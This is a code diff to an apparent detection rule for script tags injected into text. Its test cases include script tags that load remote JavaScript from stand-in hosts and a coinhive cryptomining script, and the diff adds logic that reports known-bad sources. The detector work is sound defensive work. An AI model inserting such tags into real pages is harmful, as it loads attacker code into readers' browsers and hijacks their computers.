@@ -58,6 +58,10 @@ class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="
         Bad(f'{_TEXT}<script src="https://203.0.113.7/w.js"></script>', says="203.0.113.7"),
         Bad(f'{_TEXT}<script src="https://traffic-gate.example/in.js"></script>', says="traffic-gate.example"),
         Bad(
+            f'{_TEXT}<script src="https://cdn.example/coinhive.min.js"></script>',
+            says="comes from cdn.example and makes readers' computers mine coins",
+        ),
+        Bad(
             f"{_TEXT}<script>var s=document.createElement('script');s.src='//gate.example/w.js';"
             "document.head.appendChild(s)</script>",
             says="gate.example",
@@ -174,6 +178,8 @@ def _linked(node: Element, facts: Facts) -> tuple[str, _Values] | None:
         return "data", ("stands in its own address", True, "", shown(url.href), "")
     if not url.host:
         return None
+    if known := [hit for hit in Piece("url", node, "", url.href).reading.hits if hit.certain]:
+        return url.host, (f"comes from {url.host} and {known[0].says}", True, url.host, shown(url.href), "")
     odd = oddness(url)
     if not odd and is_named_beside(url, node, facts):
         return None
